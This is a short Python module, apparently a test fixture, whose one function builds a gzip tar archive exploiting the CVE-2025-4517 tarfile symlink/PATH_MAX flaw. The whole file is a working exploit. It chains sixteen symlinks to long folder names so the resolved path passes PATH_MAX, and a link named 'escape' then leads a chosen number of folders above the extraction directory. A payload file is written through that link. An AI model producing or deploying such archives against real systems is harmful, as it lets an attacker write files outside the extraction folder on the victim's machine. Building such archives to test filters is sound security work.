"""Hostile step archives. `path_max_escape` builds the CVE-2025-4517 pattern: a chain of
symlinks whose resolved path runs past PATH_MAX, where `os.path.realpath` (non-strict, as
tarfile's `data` filter calls it on Python < 3.11.13) stops resolving and goes on
lexically, while the kernel resolves every link. The filter then believes a link stays in
the folder which in fact leads `levels_up` folders above it."""

from __future__ import annotations

import io
import tarfile

LEVELS = "abcdefghijklmnop"  # 16 links, each to a 247-character folder: ~3970 characters


def path_max_escape(levels_up: int, payload_name: str, payload: bytes = b"pwned") -> bytes:
    buf = io.BytesIO()
    long_dir = "d" * 247
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        physical = ""
        for letter in LEVELS:
            folder = tarfile.TarInfo(f"{physical}{long_dir}")
            folder.type = tarfile.DIRTYPE
            tar.addfile(folder)
            link = tarfile.TarInfo(f"{physical}{letter}")
            link.type, link.linkname = tarfile.SYMTYPE, long_dir
            tar.addfile(link)
            physical += long_dir + "/"
        # "a/b/.../p/lll…": through the links, past PATH_MAX; it points back to the top.
        deep = "/".join(LEVELS) + "/" + "l" * 254
        back = tarfile.TarInfo(deep)
        back.type, back.linkname = tarfile.SYMTYPE, "../" * len(LEVELS)
        tar.addfile(back)
        # The kernel: the top, then `levels_up` parents. realpath: still 13+ folders deep.
        escape = tarfile.TarInfo("escape")
        escape.type, escape.linkname = tarfile.SYMTYPE, deep + "/.." * levels_up
        tar.addfile(escape)
        info = tarfile.TarInfo(f"escape/{payload_name}")
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    return buf.getvalue()
